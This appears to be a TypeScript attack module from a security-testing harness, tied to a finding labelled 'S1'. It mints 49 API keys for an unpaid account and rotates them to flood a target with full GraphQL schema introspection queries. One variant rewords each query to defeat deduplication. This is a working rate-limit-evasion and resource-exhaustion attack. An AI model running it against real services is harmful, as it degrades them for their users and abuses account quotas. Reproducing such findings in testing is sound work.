import { WHOLE_SCHEMA } from '../../house/introspection.ts';
import type { Attack, Target } from '../attack.ts';
import { persist } from '../persist.ts';
import { ask, byKey, whole } from './ask.ts';
import { makeKey } from './keys.ts';

/** As many as an account may have beside its first. */
const KEYS = 49;

/** What every tool asks once, and nothing refuses: each key of an account without money asks it as often as it may. */
export const permittedIntrospection = everyKey(
  'the whole schema, asked for by every key of an account',
  () => WHOLE_SCHEMA,
);

/** The same question, in a document that nobody has sent before. */
export const rewordedIntrospection = everyKey(
  'the whole schema, asked for in other words each time',
  (turn) => `# ${turn}\n${WHOLE_SCHEMA}`,
);

function everyKey(name: string, query: (turn: number) => string): Attack {
  return {
    name,
    finding: 'S1',
    prepare: allKeysOf,
    run: async (target, signal) => {
      const keys = await allKeysOf(target);
      if (keys.length < KEYS) throw new Error(`only ${keys.length} keys were made`);
      let turn = 0;
      await persist(signal, { width: 8, pauseMs: 0 }, async () => {
        const apiKey = keys[turn++ % keys.length] ?? '';
        await ask({ ...byKey(target, { apiKey }), body: { query: query(turn) }, refusals: ['rate_limited'] }, signal);
      });
    },
  };
}

const made = new WeakMap<Target, Promise<readonly string[]>>();

/** The keys, made before the attack begins. */
function allKeysOf(target: Target): Promise<readonly string[]> {
  const known = made.get(target);
  if (known) return known;
  const making = Promise.all(Array.from({ length: KEYS }, () => makeKey(target, whole()))).then((keys) =>
    keys.filter((key) => key !== null),
  );
  made.set(target, making);
  return making;
}
